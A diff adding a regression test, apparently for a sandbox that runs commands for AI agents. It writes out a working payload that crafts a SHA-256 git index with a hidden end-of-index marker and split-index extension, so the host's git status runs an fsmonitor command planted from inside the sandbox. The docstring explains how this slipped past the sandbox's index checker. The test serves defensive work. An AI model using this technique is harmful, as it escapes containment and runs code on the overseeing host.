@@ -302,3 +302,68 @@ def test_mcp_run_tells_the_agent(world: World) -> None:
     warnings = answer["git_warnings"]
     assert isinstance(warnings, list) and "a/lib" in warnings[0]
     assert _gitlinks(world) == []
+
+
+# Writes .git/index of a SHA-256 repository so that it holds NUMBER plain entries and one
+# optional extension ``ZZZZ``, as a sequential reader sees it. Inside that extension's data,
+# where git's reader looks for an end-of-index-entries marker (EOIE, 24 bytes whatever the
+# hash), one points at a ``link`` extension, also inside: git with ``index.threads`` reads its
+# extensions from there and takes the index for a split one, whose shared part (written
+# beside it) holds a gitlink for PATH.
+_HIDDEN_EOIE = """python3 - NUMBER PATH <<'PY'
+import hashlib, struct, sys
+n, path = int(sys.argv[1]), sys.argv[2].encode()
+def entry(name, mode, oid):
+    e = struct.pack(">10I", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + oid
+    e += struct.pack(">H", len(name)) + name
+    return e + bytes(8 - len(e) % 8)
+shared = b"DIRC" + struct.pack(">II", 2, 1) + entry(path, 0o160000, bytes([17]) * 32)
+base = hashlib.sha256(shared).digest()
+open(".git/sharedindex." + base.hex(), "wb").write(shared + base)
+body = b"DIRC" + struct.pack(">II", 2, n)
+body += b"".join(entry(b"z%06d" % i, 0o100644, bytes(32)) for i in range(n))
+link = b"link" + struct.pack(">I", 32 + 24) + base + bytes(24)  # two empty bitmaps
+digest = hashlib.sha256(link[:8]).digest()  # git hashes the extension headers it walks
+eoie = b"EOIE" + struct.pack(">II", 24, len(body) + 8) + digest[:20]
+body += b"ZZZZ" + struct.pack(">I", len(link) + len(eoie)) + link + eoie
+# git compares 32 bytes of hash there: the last 12 are the first of the trailing hash
+open(".git/index", "wb").write(body + digest[20:] + bytes(20))
+PY
+"""
+
+
+def test_hidden_end_of_index_marker_in_a_sha256_repository(world: World) -> None:
+    """Attack: in a SHA-256 repository, git's reader looks for the end-of-index-entries
+    extension 24 bytes before the trailing hash plus 8, while the reader looked where git's
+    writer puts it (36 bytes). The command hides one, where git looks, inside an optional
+    extension's data; it points git at a ``link`` extension hidden there too. git with
+    ``index.threads`` set (``true`` with 20,000 entries, or a number) reads a split index whose
+    shared part holds a gitlink for the command's repository; the reader saw a plain index
+    without one, so nothing was taken out, and the host's ``git status`` ran the command's
+    fsmonitor. Now the index is refused, so it is moved aside."""
+    world.workspace.mkdir(parents=True, exist_ok=True)
+    _git(world, "init", "-q", "--object-format=sha256", cwd=world.workspace)
+    (world.workspace / "README").write_text("hello\n")
+    _git(world, "add", "README", cwd=world.workspace)
+    _git(world, "commit", "-q", "-m", "init", cwd=world.workspace)
+    marker = world.outside / "fsmonitor-ran"
+    script = ("set -e; mkdir -p a/lib && git init -q a/lib && "
+              f"git -C a/lib config core.fsmonitor 'touch {marker}; false'\n"
+              + _HIDDEN_EOIE.replace("NUMBER", "4").replace("PATH", "a/lib") + "echo PLANTED")
+    result = world.sandbox(script)
+    assert "PLANTED" in result.stdout, result.stderr
+    assert "index.ringfence-set-aside" in result.stderr
+    _git(world, "-c", "index.threads=2", "status", "--porcelain", cwd=world.workspace,
+         check=False)
+    assert not marker.exists(), "the host's git status ran what the sandbox planted"
+    # control: the same script without the sandbox; git with threads sees the gitlink
+    import shutil
+
+    shutil.rmtree(world.workspace / "a")
+    assert world.unsandboxed(script).returncode == 0
+    listed = _git(world, "-c", "index.threads=2", "ls-files", "-s", cwd=world.workspace,
+                  check=False).stdout
+    assert "160000 " in listed and "a/lib" in listed
+    _git(world, "-c", "index.threads=2", "status", "--porcelain", cwd=world.workspace,
+         check=False)
+    assert marker.exists()
